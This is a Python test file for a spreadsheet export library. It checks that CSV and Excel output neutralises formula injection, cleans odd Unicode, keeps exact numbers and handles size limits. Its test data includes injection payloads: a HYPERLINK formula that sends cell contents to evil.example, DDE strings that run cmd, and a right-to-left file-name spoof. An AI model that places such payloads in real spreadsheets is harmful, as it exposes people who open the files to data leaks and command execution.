"""Tables for spreadsheets: what goes in comes out, numbers are numbers, and nothing is a formula."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labelgov.audit.sheets import Book, Column, Table, Type, Unknown, as_xlsx, csv_of, xlsx_of
from labelgov.audit.sheets.text import inert, line, meant
from labelgov.values import Duration, Money, Share

DAY = date(2026, 6, 30)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＠SUM(1)",
    "'=1+1",
    "all well;=1+1",
    "all well; -1",
    "a;'=1",
    ";;=1",
)
ODD = (
    "",
    "plain",
    "28(3)",
    'he said "no", and left',
    "one\r\ntwo",
    "\x1b[31mred\x1b[0m",
    "abc\u202egpj.exe",
    "\u200bhidden",
    "_x0041_",
    "\ud800",
    "\ufffe",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 日本語",
    "'",
    "https://example.com",
    "mailto:a@example.com",
)


TEXT = (Column("Text", "Some text."),)


def table(*rows, columns=TEXT, name="texts"):
    return Table(name, "Texts", "Texts for a test.", tuple(columns), rows)


def read_csv(made):
    return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))


def read_xlsx(made, sheet="texts"):
    return openpyxl.load_workbook(io.BytesIO(made))[sheet]


def book(*tables):
    return Book("A book", ("For a test.",), DAY, tables)


def test_a_csv_is_what_rfc_4180_and_excel_ask_for():
    made = csv_of(table(('a "b"',), ("c, d",)))
    assert made == b'\xef\xbb\xbfText\r\n"a ""b"""\r\n"c, d"\r\n'


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_text_in_both(text):
    of = table((text,))
    _, (cell,) = read_csv(csv_of(of))
    assert cell.lstrip()[0] not in "=+-@\t\r\n＝＠"
    for part in cell.split(";"):
        assert part[:1] not in tuple("=+-@\t\r＝＠")
    assert meant(cell) == line(text)
    found = read_xlsx(xlsx_of(book(of)))["A2"]
    assert (found.data_type, found.value) == ("s", line(text))
    assert found.quotePrefix


@pytest.mark.parametrize("text", ODD)
def test_odd_text_comes_out_as_one_printable_line(text):
    of = table((text,), ("after",))
    rows = read_csv(csv_of(of))
    assert [meant(cell) for (cell,) in rows if cell][-1] == "after"
    sheet = read_xlsx(xlsx_of(book(of)))
    assert (sheet["A2"].value or "") == line(text)
    assert sheet["A2"].hyperlink is None
    assert "\n" not in line(text)
    assert "\u202e" not in line(text)


@given(st.lists(st.text(), min_size=1, max_size=5))
@settings(max_examples=60)
def test_every_text_reads_back(texts):
    of = Table("texts", "Texts", "Texts.", tuple(Column(f"C{n}", "One.") for n in range(len(texts))), [texts])
    _, cells = read_csv(csv_of(of))
    assert [meant(cell) for cell in cells] == [line(text) for text in texts]
    sheet = read_xlsx(xlsx_of(book(of)))
    assert [(each.value or "") for each in sheet[2]] == [line(text) for text in texts]
    assert all(each.data_type != "f" for each in sheet[2])


@given(st.text(alphabet="=+-@; 'a\t＝"))
def test_what_was_meant_is_found_again(text):
    assert meant(inert(text)) == text


KINDS = (
    Column("Count", "One.", Type.COUNT),
    Column("Number", "One.", Type.NUMBER),
    Column("Amount", "One.", Type.MONEY),
    Column("Share", "One.", Type.SHARE),
    Column("Span", "One.", Type.SPAN),
    Column("Day", "One.", Type.DAY),
    Column("Said", "One.", Type.YES_NO),
    Column("Any", "One."),
)


def test_values_are_exact_in_a_csv_and_numbers_in_a_workbook():
    row = (
        1204,
        Decimal("-0.21"),
        Money.parse("480000.00 USD"),
        Share.parse("2.5%"),
        Duration.parse("48h"),
        DAY,
        False,
        Unknown("no planning rate for MXN"),
    )
    of = table(row, (None,) * 8, columns=KINDS)
    written = read_csv(csv_of(of))
    assert written[0][2:4] == ["Amount", "Amount (currency)"]
    expected = ["1204", "-0.21", "480000.00", "USD", "2.5%", "48h", "2026-06-30", "no"]
    assert written[1] == [*expected, "unknown: no planning rate for MXN"]
    assert written[2] == [""] * 9
    sheet = read_xlsx(xlsx_of(book(of)))
    values = [cell.value for cell in sheet[2]]
    day = datetime(2026, 6, 30)
    assert values == [1204, -0.21, 480000, "USD", 0.025, "48h", day, "no", "unknown: no planning rate for MXN"]
    forms = [cell.number_format for cell in sheet[2]]
    assert forms[:5] == ["#,##0", "#,##0.00", "#,##0.00", "@", "0.0%"]
    assert [cell.value for cell in sheet[3]] == [None] * 9


@pytest.mark.parametrize(("amount", "kept"), [
    ("999999999999999.99999999", str),
    ("123456789012345.67", str),
    ("1234567890123.45", float),
    ("999999999999999.00", int),
    ("0.12345678", float),
])  # fmt: skip
def test_an_amount_of_more_digits_than_spreadsheets_keep_is_text(amount, kept):
    of = table((Money.parse(f"{amount} USD"),), columns=[Column("Amount", "One.", Type.MONEY)])
    value = read_xlsx(xlsx_of(book(of)))["A2"].value
    assert type(value) is kept
    assert Decimal(str(value)) == Decimal(amount)
    assert read_csv(csv_of(of))[1][0] == amount


def test_a_price_of_a_unit_shows_all_its_digits():
    of = table((Money.parse("0.0835 USD"),), columns=[Column("Price", "One.", Type.MONEY)])
    cell = read_xlsx(xlsx_of(book(of)))["A2"]
    assert (cell.value, cell.number_format) == (0.0835, "#,##0.0000")


def test_a_currency_without_minor_unit_has_none():
    of = table((Money.parse("5000 JPY"),), columns=[Column("Price", "One.", Type.MONEY)])
    assert read_csv(csv_of(of))[1] == ["5000", "JPY"]


@pytest.mark.parametrize("day", [date(1, 1, 1), date(1900, 2, 28), date(1899, 12, 31)])
def test_a_day_that_spreadsheets_count_differently_is_text(day):
    of = table((day,), columns=[Column("Day", "One.", Type.DAY)])
    assert read_xlsx(xlsx_of(book(of)))["A2"].value == day.isoformat()


@pytest.mark.parametrize("text", ["x" * 100_000, "𝔘" * 20_000, "=" + "y" * 40_000])
def test_text_beyond_what_a_cell_holds_is_cut_in_the_workbook_alone(text):
    of = table((text,))
    value = read_xlsx(xlsx_of(book(of)))["A2"].value
    assert len(value.encode("utf-16-le")) // 2 <= as_xlsx.LONGEST_TEXT
    assert value.endswith("…")
    assert text.startswith(value[:-1])
    csv.field_size_limit(1_000_000)
    assert meant(read_csv(csv_of(of))[1][0]) == text


def test_rows_beyond_what_a_sheet_holds_are_counted_and_said(monkeypatch):
    monkeypatch.setattr(as_xlsx, "MOST_ROWS", 5)
    of = table(*((str(number),) for number in range(10)))
    sheet = read_xlsx(xlsx_of(book(of)))
    assert sheet.max_row == 5
    assert [cell.value for (cell,) in sheet.iter_rows()][1:4] == ["0", "1", "2"]
    assert sheet["A5"].value == "7 more rows stand in the CSV: a sheet holds no more."
    assert len(read_csv(csv_of(of))) == 11


def test_as_many_rows_as_a_sheet_holds_all_stand_in_it(monkeypatch):
    monkeypatch.setattr(as_xlsx, "MOST_ROWS", 5)
    sheet = read_xlsx(xlsx_of(book(table(*((str(number),) for number in range(4))))))
    assert [cell.value for (cell,) in sheet.iter_rows()] == ["Text", "0", "1", "2", "3"]


def test_a_sheet_is_made_to_be_read_and_printed():
    sheet = read_xlsx(xlsx_of(book(table(("a",), ("b",)))))
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:A3"
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", 0)
    assert "Page &P of &N" in sheet.oddFooter.right.text.replace("&[Page]", "&P") or sheet.oddFooter.right.text


def test_the_first_sheet_says_what_each_column_holds():
    sheet = read_xlsx(xlsx_of(book(table(("a",)))), "About")
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "A book"
    assert ["texts", None, None, "Texts. Texts for a test."] in rows
    assert [None, "Text", "text", "Some text."] in rows


def test_a_workbook_says_nothing_of_where_and_when_it_was_made(monkeypatch):
    made = xlsx_of(book(table(("a",))))
    monkeypatch.setenv("TZ", "Pacific/Kiritimati")
    monkeypatch.setenv("USER", "somebody")
    assert xlsx_of(book(table(("a",)))) == made
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert all(entry.date_time == (1980, 1, 1, 0, 0, 0) for entry in archive.infolist())
    assert core.count("2026-06-30T00:00:00Z") == 2
